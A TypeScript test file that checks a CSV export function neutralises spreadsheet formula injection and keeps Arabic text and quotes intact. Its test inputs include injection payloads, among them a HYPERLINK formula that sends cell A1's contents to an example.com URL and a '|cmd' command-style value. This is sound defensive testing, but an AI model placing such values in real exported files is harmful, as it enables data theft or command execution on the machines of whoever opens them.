import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvOf } from './csv.ts'

const read = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: true })

test.each([
  '=HYPERLINK("https://example.com?"&A1)',
  '+971501234567',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '＝1',
  '|cmd',
])('%j is no formula to whoever opens it', (value) => {
  expect(read(csvOf([[value]]))).toEqual([[`'${value}`]])
})

test('whatever the cells hold, each stays one cell, and none begins as a formula', () => {
  const rows = fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 5 }), {
    minLength: 1,
    maxLength: 8,
  })
  fc.assert(
    fc.property(rows, (written) => {
      const told = read(csvOf(written))
      expect(told.map((row) => row.map((value) => value.replace(/^'/, '')))).toEqual(
        written.map((row) => row.map((value) => value.replace(/^'/, ''))),
      )
      for (const value of told.flat()) expect(value).not.toMatch(/^\s*[=+\-@＝＋－＠]/)
    }),
  )
})

test('Arabic names and quotes come through, in UTF-8 that says so', () => {
  const csv = csvOf([['ليلى "حداد"', 'a,b']])
  expect(csv.startsWith('\uFEFF')).toBe(true)
  expect(csv.endsWith('\r\n')).toBe(true)
  expect(read(csv)).toEqual([['ليلى "حداد"', 'a,b']])
})
